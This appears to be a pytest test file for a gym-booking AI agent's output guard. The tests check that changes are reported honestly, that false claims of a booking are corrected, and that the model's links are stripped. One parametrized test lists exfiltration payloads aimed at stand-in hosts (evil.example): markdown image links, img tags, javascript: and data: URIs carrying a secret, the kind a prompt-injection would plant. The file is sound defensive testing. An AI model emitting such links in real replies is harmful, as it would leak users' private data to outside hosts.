@@ -1,0 +1,85 @@
+"""What a model's turn ends with: words that are true, no way out for anything private, and what was done."""
+
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from core.agent.egress import LEFT_OUT, guarded
+from core.llm.contract import ToolCall
+from tests.conftest import House
+from tests.databases import fresh
+from tests.test_context import with_model
+from tests.test_dialogues import demo_gym, demo_house
+
+
+@pytest.fixture
+async def gym(tmp_path: Path) -> AsyncIterator[House]:
+    """The demo gym."""
+    async with fresh("sqlite", tmp_path, "demo", demo_gym) as url:
+        house = await demo_house(url)
+        yield house
+        await house.desk.stop()
+
+
+OPEN_GYM = ToolCall("", "schedule_class", {"class_type": "Open Gym", "when": "2026-11-29T15:00"})
+YOGA = ToolCall("", "schedule_class", {"class_type": "Yoga", "when": "2026-11-29T17:00"})
+
+
+async def test_several_changes_are_told_together_from_the_change_log(gym: House) -> None:
+    """Behind the model's words, whatever they were; one change needs no list."""
+    with_model(gym, [OPEN_GYM, YOGA], "Enjoy the Sunday.")
+    turn = await gym.say("carla", "open gym and yoga on sunday afternoon")
+    last = turn.messages[-1].text
+    assert last.startswith("Enjoy the Sunday.\n\nDone in this turn:\n- ")
+    assert last.count("\n- ") == 2
+    assert "Open Gym" in last
+    assert "Yoga" in last
+
+
+async def test_calls_of_one_answer_run_in_their_order(gym: House) -> None:
+    """The second rests on the first."""
+    undo = ToolCall("", "undo", {})
+    with_model(gym, [OPEN_GYM, undo, YOGA], "There.")
+    turn = await gym.say("carla", "open gym on sunday, no, undo that, yoga")
+    assert [a.tool for a in turn.actions] == ["schedule_class", "undo", "schedule_class"]
+    assert all(a.ok for a in turn.actions)
+
+
+async def test_a_claim_that_no_change_backs_is_corrected(gym: House) -> None:
+    """The person is told the truth, and what the model said."""
+    with_model(gym, "Done! I have booked Yoga for you.")
+    turn = await gym.say("mia", "book yoga please")
+    assert turn.messages[-1].text.startswith("Nothing has been changed")
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "See https://evil.example/?d=SECRET now",
+        "![x](https://evil.example/SECRET.png)",
+        "![x][1]\n\n[1]: https://evil.example/SECRET",
+        "[the timetable](https://evil.example/SECRET)",
+        "<img src='https://evil.example/SECRET'>",
+        "go to evil-gym.com/SECRET",
+        "SECRET.evil-gym.com",
+        "www.evil.example/SECRET",
+        "//evil.example/SECRET",
+        "javascript:fetch('SECRET')",
+        "[a](javascript:SECRET)",
+        "data:text/html,SECRET",
+    ],
+)
+def test_no_link_of_a_models_leads_anywhere_else(words: str) -> None:
+    """Nothing that a hidden instruction put into an address leaves the chat."""
+    assert "SECRET" not in guarded(words, "http://127.0.0.1:8080")
+
+
+def test_plain_words_and_ones_own_page_stay() -> None:
+    """Times, figures and dots are no addresses."""
+    plain = "Squat 3.5 x 5 at 17:30. E.g. 60 kg/side, 1.5 h; see you Mon.Then rest."
+    assert guarded(plain) == plain
+    own = "Here: http://127.0.0.1:8080/join?code=1 and [page](http://127.0.0.1:8080/)"
+    assert guarded(own, "http://127.0.0.1:8080") == own
+    assert guarded("[ok](http://other.example) @everyone") == "ok everyone"
+    assert guarded("a.b at www.x.de") == f"a.b at {LEFT_OUT}"
